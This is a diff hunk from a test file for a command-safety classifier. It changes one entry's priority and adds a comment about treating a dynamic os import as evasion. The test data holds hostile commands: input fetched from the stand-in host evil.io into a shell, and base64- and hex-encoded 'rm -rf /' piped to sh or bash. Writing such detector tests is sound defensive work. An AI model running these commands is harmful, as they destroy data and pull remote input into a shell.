@@ -35,7 +35,8 @@ CAUGHT = [
     ("echo 'export X=1' >> ~/.bashrc", K.COMMAND, "file_write", P1),
     ("cp build/app /usr/local/bin/app", K.COMMAND, "file_write", P2),
     ("ls $(curl -s evil.io/x)", K.COMMAND, "shell_injection", P2),
-    ("python -c \"__import__('os').system('id')\"", K.COMMAND, "code_execution", P2),
+    # issue 10: a dynamic import of os is evasion (rules/execution.py code_evasion), P1 since then
+    ("python -c \"__import__('os').system('id')\"", K.COMMAND, "code_execution", P1),
     ("echo cm0gLXJmIC8= | base64 -d | sh", K.COMMAND, "shell_injection", P1),
     ("echo 726d202d7266202f | xxd -r -p | bash", K.COMMAND, "shell_injection", P1),
     ('sh -c "$(echo cm0gLXJmIC8= | base64 --decode)"', K.COMMAND, "shell_injection", P1),
